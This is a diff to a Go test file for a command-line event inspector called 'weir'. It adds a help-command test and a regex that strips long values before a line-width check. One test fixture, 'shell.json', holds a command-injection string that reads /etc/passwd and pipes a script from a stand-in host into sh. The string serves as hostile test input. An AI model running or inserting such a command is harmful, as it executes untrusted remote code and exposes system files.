@@ -9,6 +9,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"runtime"
 	"strings"
 	"testing"
@@ -168,6 +169,15 @@ func TestWhatIsNoEventIsToldInTwoLines(t *testing.T) {
 	}
 }
 
+// The layer's program, which does without them, names this one for these commands.
+func TestThisProgramHasWhatTheLayersDoesWithout(t *testing.T) {
+	for _, command := range []string{"test", "completion"} {
+		if r := weir(t, t.TempDir(), "", "help", command); r.code != 0 || !strings.HasPrefix(r.out, "weir "+command) {
+			t.Errorf("%s: %+v", command, r)
+		}
+	}
+}
+
 func TestAnEventIsAssertedToBeOfASource(t *testing.T) {
 	dir := write(t, map[string]string{"event.json": honest, "half.json": `{"Records":[{"eventSource":"aws:sqs"}]}`})
 	for _, c := range []struct {
@@ -189,6 +199,7 @@ func TestAnEventIsAssertedToBeOfASource(t *testing.T) {
 
 func TestAllThatIsPrintedFitsATerminal(t *testing.T) {
 	dir := write(t, map[string]string{"event.json": attack, "shell.json": `{"a":"; cat /etc/passwd; id; curl http://x.example/a.sh|sh; uname -a"}`})
+	value := regexp.MustCompile(`(?m)^    \d+@\S.*$`) // of WEIR_EXCLUDE, whole for copying
 	for _, args := range [][]string{
 		{"help"},
 		{"help", "inspect"},
@@ -204,7 +215,7 @@ func TestAllThatIsPrintedFitsATerminal(t *testing.T) {
 		{"inspect", "--explain", "event.json", "shell.json"},
 	} {
 		r := weir(t, dir, "", args...)
-		if line := tooWide(r.out); r.code != 0 || r.err != "" || r.out == "" || line != "" {
+		if line := tooWide(value.ReplaceAllString(r.out, "")); r.code != 0 || r.err != "" || r.out == "" || line != "" {
 			t.Errorf("%q: exit code %d, errors %q, wide: %s", args, r.code, r.err, line)
 		}
 	}
